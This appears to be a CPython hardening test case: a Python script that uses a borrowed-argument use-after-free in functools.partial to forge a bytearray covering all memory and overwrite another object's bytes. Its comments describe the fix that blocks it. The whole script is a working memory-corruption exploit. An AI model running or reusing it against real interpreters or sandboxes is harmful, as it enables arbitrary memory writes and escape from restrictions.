# family: wall (memory: functools.partial's no-argument call passes its stored arguments borrowed)   goal: memory   interpreter: /usr/bin/python3
# A sibling of X83 (the twelfth round's ok_04): partial_vectorcall's other path.
# Called with no argument, CPython 3.11 hands the function the stored argument
# array itself (_PyTuple_ITEMS(pto->args), every item borrowed). p stores
# (V(), wc) for operator.eq: V.__eq__ runs p.__setstate__ with other arguments,
# which drops the old tuple (V's last holder but V.__eq__'s own frame), answers
# NotImplemented and V is freed; the reflected wc.__eq__ receives it, refilled by
# bytearray(FAKE) (a fake PyByteArrayObject of 2**62 bytes at address 0): another
# object's bytes are written through it. Plain python3: MEMORY-OVERWRITTEN. The
# wall: partial's __setstate__ keeps the arguments it replaces (partial_setstate);
# V is never freed.
import functools
import operator
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def __eq__(s, o):
        p.__setstate__((operator.eq, (1, 2), {}, None))
        return NotImplemented
class Wc:
    def __eq__(s, o):
        keep.append(bytearray(FAKE))
        keep.append(o)
        return False
wc = Wc()
p = functools.partial(operator.eq, V(), wc)
p()                                        # operator.eq(<V borrowed>, <wc borrowed>)
mem = keep[-1]
print(type(mem).__name__, hex(len(mem)), flush=True)
target = bytearray(b"AAAAAAAA")
start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")
mem[start] = 0x42
if target[0] == 0x42:
    print("MEMORY-OVERWRITTEN", bytes(target))
